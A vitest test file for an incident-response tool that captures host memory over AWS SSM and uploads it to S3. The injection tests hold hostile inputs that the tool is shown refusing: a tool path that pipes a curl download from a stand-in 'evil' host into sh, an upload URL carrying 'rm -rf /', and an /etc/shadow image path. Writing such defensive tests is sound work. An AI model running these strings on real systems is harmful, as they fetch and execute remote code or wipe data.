import { describe, expect, it } from 'vitest';
import type { HostUpload } from '../../src/evidence/host-upload.js';
import { planParts } from '../../src/evidence/host-upload.js';
import type { CollectionCommand } from '../../src/volatile/collection-commands.js';
import { CommandOutcome } from '../../src/volatile/command-outcome.js';
import { captureMemory, type MemoryCaptureDeps } from '../../src/volatile/memory-capture.js';
import {
  memoryCaptureCommand,
  parseCaptureOutput,
  parsePartOutput,
  partUploadCommand,
} from '../../src/volatile/memory-scripts.js';
import type { CommandResult } from '../../src/volatile/run-command.js';

/*
 * Memory capture runs on the host through SSM Run Command. The emulator's SSM reports Success with
 * empty output and runs nothing, so the host side is tested here on recorded outputs (what AVML,
 * sha256sum, stat and curl print on Amazon Linux 2023), and the S3 side on the emulator
 * (test/integration/host-upload.test.ts).
 */

const SHA = 'b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c';
const CAPTURED = `image=/var/tmp/ir-memory.Ab12Cd34/memory.lime\nsize=8589934592\nsha256=${SHA}\n`;

const result = (name: string, outcome: CommandResult['outcome'], stdout = ''): CommandResult => ({
  name,
  commandId: `cmd-${name}`,
  outcome,
  status: outcome === CommandOutcome.success ? 'Success' : 'Failed',
  statusDetails: outcome === CommandOutcome.success ? 'Success' : 'Failed',
  responseCode: outcome === CommandOutcome.success ? 0 : 1,
  stdout,
  stderr: '',
  truncated: false,
});

describe('memory capture scripts and their output', () => {
  it('reads image, size and hash from a successful capture', () => {
    // Act / Assess
    expect(parseCaptureOutput(CAPTURED, '/var/tmp')).toEqual({
      image: '/var/tmp/ir-memory.Ab12Cd34/memory.lime',
      size: 8_589_934_592,
      sha256: SHA,
    });
  });

  it('reports the host’s error, missing fields, and a path outside the capture directory', () => {
    // Act / Assess
    expect(parseCaptureOutput('error=avml exited 1\n', '/var/tmp')).toEqual({ error: 'avml exited 1' });
    expect(parseCaptureOutput('', '/var/tmp')).toEqual({
      error: 'the capture command reported no image, size and sha256',
    });
    expect(parseCaptureOutput(`image=/etc/shadow\nsize=10\nsha256=${SHA}\n`, '/var/tmp')).toMatchObject({
      error: expect.stringMatching(/^unexpected image path/),
    });
    expect(
      parseCaptureOutput(`image=/var/tmp/ir-memory.x/memory.lime\nsize=10\nsha256=nothex\n`, '/var/tmp'),
    ).toMatchObject({ error: expect.stringMatching(/^not a SHA-256/) });
  });

  it('refuses to put a tool path from host output into a script when it could break out of quotes', () => {
    // Act / Assess
    expect(() =>
      memoryCaptureCommand({ tool: 'avml', path: "/usr/bin/avml'; curl evil|sh; '" }, '/var/tmp'),
    ).toThrow(/refusing memory tool path/);
    expect(() => memoryCaptureCommand({ tool: 'lime', path: '/opt/../tmp/lime.ko' }, '/var/tmp')).toThrow();
    expect(memoryCaptureCommand({ tool: 'avml', path: '/usr/local/bin/avml' }, '/var/tmp')).toMatchObject({
      document: 'CaptureMemory',
      parameters: {
        action: 'capture',
        tool: 'avml',
        toolPath: '/usr/local/bin/avml',
        captureDir: '/var/tmp',
      },
    });
  });

  it('reads the ETag curl saw, and the error when the upload failed', () => {
    // Act / Assess
    expect(parsePartOutput('etag="9b2cf535f27731c974343645a3985328"\n')).toEqual({
      etag: '"9b2cf535f27731c974343645a3985328"',
    });
    expect(parsePartOutput('error=curl exited 22\n')).toEqual({ error: 'curl exited 22' });
    expect(parsePartOutput('etag=\n')).toEqual({ error: 'the upload reported no ETag' });
  });

  it('cuts a part on whole MiB and refuses a URL that could break out of its quotes', () => {
    // Prepare
    const image = '/var/tmp/ir-memory.Ab12Cd34/memory.lime';
    const part = { partNumber: 2, offset: 512 * 1024 * 1024, length: 100 * 1024 * 1024 };
    // Act
    const command = partUploadCommand(image, part, 'https://bucket.s3.amazonaws.com/k?X-Amz-Signature=abc');
    // Assess
    expect(command.parameters).toMatchObject({
      action: 'upload-part',
      captureDir: '/var/tmp',
      captureId: 'Ab12Cd34',
      partNumber: '2',
      skipMiB: '512',
      countMiB: '100',
    });
    expect(() => partUploadCommand(image, part, "https://x/'; rm -rf /; '")).toThrow(/malformed upload URL/);
  });

  it('plans parts within S3’s limits', () => {
    // Act
    const small = planParts(5 * 1024 * 1024 + 1, 512 * 1024 * 1024);
    const huge = planParts(8 * 1024 ** 4, 5 * 1024 * 1024);
    // Assess
    expect(small).toEqual([{ partNumber: 1, offset: 0, length: 5 * 1024 * 1024 + 1 }]);
    expect(huge.length).toBeLessThanOrEqual(10_000);
    expect(huge.reduce((sum, p) => sum + p.length, 0)).toBe(8 * 1024 ** 4);
  });
});

describe('captureMemory (SSM outcomes recorded, S3 upload replaced)', () => {
  /** An upload whose parts and completion are recorded; S3 itself is in the integration test. */
  function recordedUpload(parts: number) {
    const completed: Array<Array<{ partNumber: number; etag: string }>> = [];
    let aborted = false;
    const upload: HostUpload = {
      key: 'incidents/inc-1/collect-volatile/memory/memory.lime',
      uploadId: 'upload-1',
      parts: Array.from({ length: parts }, (_, i) => ({
        partNumber: i + 1,
        offset: i * 5 * 1024 * 1024,
        length: 5 * 1024 * 1024,
      })),
      presign: async (n) => `https://bucket.s3.amazonaws.com/key?partNumber=${n}&X-Amz-Signature=sig`,
      complete: async (etags) => {
        completed.push([...etags]);
        return {
          artifact: {
            key: 'incidents/inc-1/collect-volatile/memory/memory.lime',
            versionId: 'v1',
            size: 10,
            sha256: SHA,
            lockMode: 'COMPLIANCE',
            retainUntil: '2027-11-22T00:00:00.000Z',
            reused: false,
          },
          claimedSha256: SHA,
          hashMatchesClaim: true,
        };
      },
      abort: async () => {
        aborted = true;
      },
    };
    return { upload, completed, aborted: () => aborted };
  }

  function deps(outputs: Record<string, CommandResult>, upload: HostUpload, budgetSeconds = 3600) {
    const ran: CollectionCommand[] = [];
    const value: MemoryCaptureDeps = {
      run: async (command) => {
        ran.push(command);
        return outputs[command.name] ?? result(command.name, CommandOutcome.success, 'removed=yes\n');
      },
      startUpload: async () => upload,
      captureDir: '/var/tmp',
      commandTimeoutSeconds: 900,
      budgetEndsAt: 1_000_000 + budgetSeconds * 1000,
      now: () => 1_000_000,
    };
    return { value, ran };
  }

  it('captures, uploads every part with its ETag, completes and removes the image from the host', async () => {
    // Prepare
    const { upload, completed } = recordedUpload(2);
    const { value, ran } = deps(
      {
        'memory-capture': result('memory-capture', CommandOutcome.success, CAPTURED),
        'memory-upload-part-1': result('memory-upload-part-1', CommandOutcome.success, 'etag="aaa1"\n'),
        'memory-upload-part-2': result('memory-upload-part-2', CommandOutcome.success, 'etag="bbb2"\n'),
      },
      upload,
    );
    // Act
    const record = await captureMemory({ tool: 'avml', path: '/usr/bin/avml' }, value);
    // Assess
    expect(record).toMatchObject({ performed: true, hashMatchesHost: true, reason: null });
    expect(completed).toEqual([
      [
        { partNumber: 1, etag: '"aaa1"' },
        { partNumber: 2, etag: '"bbb2"' },
      ],
    ]);
    expect(ran.map((c) => c.name)).toEqual([
      'memory-capture',
      'memory-upload-part-1',
      'memory-upload-part-2',
      'memory-cleanup',
    ]);
    expect(JSON.stringify(record)).not.toContain('X-Amz-Signature');
  });

  it.each([
    [CommandOutcome.failed, 'capture failed'],
    [CommandOutcome.timedOut, 'capture timed_out'],
    [CommandOutcome.undeliverable, 'capture undeliverable'],
  ])('records a capture that ended %s as not performed, and uploads nothing', async (outcome, reason) => {
    // Prepare
    const { upload, completed } = recordedUpload(1);
    const { value, ran } = deps({ 'memory-capture': result('memory-capture', outcome) }, upload);
    // Act
    const record = await captureMemory({ tool: 'lime', path: '/lib/modules/6.1/lime.ko' }, value);
    // Assess
    expect(record.performed).toBe(false);
    expect(record.reason).toContain(reason);
    expect(completed).toEqual([]);
    expect(ran.map((c) => c.name)).toEqual(['memory-capture']);
  });

  it('aborts the upload and still removes the image when a part fails', async () => {
    // Prepare
    const { upload, completed, aborted } = recordedUpload(2);
    const { value, ran } = deps(
      {
        'memory-capture': result('memory-capture', CommandOutcome.success, CAPTURED),
        'memory-upload-part-1': result(
          'memory-upload-part-1',
          CommandOutcome.success,
          'error=curl exited 22\n',
        ),
      },
      upload,
    );
    // Act
    const record = await captureMemory({ tool: 'avml', path: '/usr/bin/avml' }, value);
    // Assess
    expect(record).toMatchObject({ performed: false, reason: 'upload of part 1: curl exited 22' });
    expect(aborted()).toBe(true);
    expect(completed).toEqual([]);
    expect(ran.at(-1)?.name).toBe('memory-cleanup');
  });

  it('does not start a capture that could not finish before the step’s time-out', async () => {
    // Prepare: 40 s left; a command needs twice its time-out plus 10 s, and at least 30 s.
    const { upload } = recordedUpload(1);
    const { value, ran } = deps({}, upload, 40);
    // Act
    const record = await captureMemory({ tool: 'avml', path: '/usr/bin/avml' }, value);
    // Assess
    expect(record).toMatchObject({
      performed: false,
      reason: expect.stringMatching(/not enough of the step/),
    });
    expect(ran).toEqual([]);
  });
});
